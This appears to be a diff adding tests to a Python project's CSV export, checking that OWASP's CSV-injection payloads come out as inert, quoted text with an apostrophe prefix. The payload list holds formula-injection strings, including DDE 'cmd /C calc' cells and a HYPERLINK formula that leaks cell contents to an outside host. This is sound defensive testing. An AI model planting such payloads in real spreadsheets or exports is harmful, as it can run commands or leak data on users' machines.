@@ -1,11 +1,13 @@
 """What readers and the desk are handed: the Markdown export read back by a CommonMark
-parser, the feed's order, the verdicts' CSV with a browser's session, valid
-``<time datetime>`` values, one h1 and headings in order on every page, and the HTML
-404 and 410 pages."""
+parser, the feed's order, the verdicts' CSV with a browser's session and against
+OWASP's CSV injection cases, valid ``<time datetime>`` values, one h1 and headings in
+order on every page, and the HTML 404 and 410 pages."""
 
 from __future__ import annotations
 
 import copy
+import csv
+import io
 import re
 from datetime import UTC, datetime, timedelta
 from html.parser import HTMLParser
@@ -117,6 +119,59 @@ def test_any_text_renders_as_itself(text):
         assert blocks == ([(tag, written)] if written else blocks), (prefix, text)
 
 
+# OWASP's CSV injection page: its example payloads, the two cells its escaping rules
+# are shown on, and cells that open with a tab or a carriage return; then the same
+# behind the leading spaces and quotes a spreadsheet skips, and full-width forms.
+OWASP_PAYLOADS = [
+    '=HYPERLINK("http://contextis.co.uk?leak="&A1&A2,"Error: please click for further info")',
+    "=cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "+2+3+cmd|' /C calc'!A0",
+    '=1+2";=1+2',
+    "=1+2'\" ;,=1+2",
+    "\t=1+2",
+    "\r=1+2",
+    " =1+2",
+    '"=1+2',
+    "'=1+2",
+    "\n@SUM(1+1)",
+    "\uff1d1+2",
+]
+
+
+def _verdicts_csv_with(text: str) -> str:
+    content = snapshot_with(text)
+    content["claims"][0]["verdict"]["citations"][0]["url"] = text
+    return exports.verdicts_csv(Export([published(content)], "https://desk.example/", "Desk"))
+
+
+@pytest.mark.parametrize("payload", OWASP_PAYLOADS)
+def test_a_cell_a_spreadsheet_would_run_is_text(payload):
+    """OWASP: every cell quoted, quotes doubled, and a formula-looking cell prefixed
+    with an apostrophe; a separator or quote inside never opens a cell of its own."""
+    written = _verdicts_csv_with(payload)
+    rows = list(csv.DictReader(io.StringIO(written)))
+    assert [row["essay_title"] for row in rows] == ["'" + payload] * 2
+    assert rows[0]["claim"] == rows[0]["citation_urls"] == "'" + payload
+    quoted = '"' + "'" + payload.replace('"', '""') + '"'
+    assert written.count(quoted) == 4  # two titles, a claim and a citation
+
+
+def test_owasps_escaping_examples_are_written_as_it_shows():
+    assert '"\'=1+2"";=1+2"' in _verdicts_csv_with('=1+2";=1+2')
+    assert '"\'=1+2\'"" ;,=1+2"' in _verdicts_csv_with("=1+2'\" ;,=1+2")
+
+
+def test_every_cell_is_quoted_and_plain_text_is_left_alone():
+    written = _verdicts_csv_with("Sadr City - the toll")
+    for line in written.splitlines():
+        cells = next(csv.reader([line], quoting=csv.QUOTE_ALL))
+        assert line == ",".join('"' + cell.replace('"', '""') + '"' for cell in cells)
+    rows = list(csv.DictReader(io.StringIO(written)))
+    assert rows[0]["claim"] == "Sadr City - the toll" and rows[0]["rating_value"] == "4"
+
+
 def test_the_feed_is_newest_first_and_lists_claims_in_the_essays_order():
     content = copy.deepcopy(STORED_BEFORE_THE_MODEL)
     first, second = content["claims"]
@@ -183,7 +238,7 @@ def test_a_signed_in_editor_downloads_the_verdicts_csv_from_the_desk(client, fac
     answer = client.get("/desk/exports/verdicts.csv")
     assert answer.status_code == 200 and answer.mimetype == "text/csv"
     assert answer.headers["Content-Disposition"].startswith("attachment")
-    assert answer.text.splitlines()[0] == ",".join(exports.CSV_COLUMNS)
+    assert next(csv.reader(io.StringIO(answer.text))) == exports.CSV_COLUMNS
     assert "Sadr City" in answer.text
 
 
